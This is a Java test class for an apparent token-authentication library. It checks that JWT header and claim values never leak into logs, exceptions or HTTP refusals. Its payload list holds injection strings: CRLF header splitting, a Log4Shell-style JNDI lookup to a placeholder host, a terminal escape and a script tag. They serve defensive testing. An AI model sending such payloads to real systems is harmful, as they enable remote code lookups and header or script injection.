package io.github.auth0guard.acceptance;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.github.auth0guard.AccessToken;
import io.github.auth0guard.Scopes;
import io.github.auth0guard.error.AuthException;
import io.github.auth0guard.http.Refusal;
import io.github.auth0guard.http.RequestAuthenticator;
import io.github.auth0guard.test.TestIssuer;
import io.github.auth0guard.test.TestToken;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Nothing that a token says reaches a log line, an exception or an answer (RFC 6750 §5.3, CWE-117, CWE-113). */
class LeakTest {
    private static final String CANARY = "canary7f3a";
    private static final List<String> PAYLOADS = List.of(
            CANARY,
            "\r\nSet-Cookie: " + CANARY + "=1\r\n\r\n",
            "${jndi:ldap://" + CANARY + ".example/a}", // CVE-2021-44228
            "\", error=\"" + CANARY,
            "\u001b[2J" + CANARY,
            "<script>" + CANARY + "</script>");

    @RegisterExtension
    static final TestIssuer ISSUER = TestIssuer.start();

    private final RequestAuthenticator authenticator = RequestAuthenticator.of(ISSUER.offlineVerifier());

    static Stream<Arguments> places() {
        Stream<Arguments> headers = Stream.of("alg", "kid", "typ", "cty", "crit", "jku", "x5u", "x")
                .flatMap(name -> PAYLOADS.stream().map(payload -> Arguments.of("header", name, payload)));
        Stream<Arguments> claims = Stream.of("iss", "aud", "sub", "scope", "azp", "jti", "exp", "cnf", "nonce", "x")
                .flatMap(name -> PAYLOADS.stream().map(payload -> Arguments.of("claim", name, payload)));
        return Stream.concat(headers, claims);
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("places")
    void whatATokenSaysIsNotRepeated(String part, String name, String payload) {
        TestToken token = part.equals("header")
                ? ISSUER.token().header(name, payload)
                : ISSUER.token().claim(name, payload);
        String good = token.sign();
        String expired = token.expiresIn(Duration.ofHours(-1)).sign();
        String spoiled = token.raw().spoil(signature -> new byte[signature.length]);
        for (String jwt : List.of(good, expired, spoiled, good + '.' + payload)) {
            assertThat(everythingThatShows(
                            TestRequest.get("https://api.example.com/").bearer(jwt)))
                    .doesNotContain(CANARY, "jndi", "Set-Cookie", jwt);
        }
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("places")
    void norIsWhatStandsInPlaceOfOne(String part, String name, String payload) {
        TestRequest request = TestRequest.get("https://api.example.com/");
        for (String field : List.of(payload, "Bearer " + payload, "Bearer " + name + '.' + payload, payload + " x")) {
            assertThat(everythingThatShows(request.header("Authorization", field)))
                    .doesNotContain(CANARY, "jndi", "Set-Cookie");
        }
    }

    /** Log, exception with all causes, challenges and body. A token that is good is refused for want of a scope. */
    private String everythingThatShows(TestRequest request) {
        StringWriter shown = new StringWriter();
        String log = StandardError.during(() -> {
            AuthException refusal = catchThrowableOfType(AuthException.class, () -> {
                AccessToken token = authenticator.authenticate(request);
                shown.append(token.toString());
                Scopes.allOf("admin").check(token);
            });
            Refusal answer = authenticator.refuse(refusal, request);
            refusal.printStackTrace(new PrintWriter(shown, true));
            shown.append(answer.headers().toString()).append(answer.body());
        });
        return shown + log;
    }
}
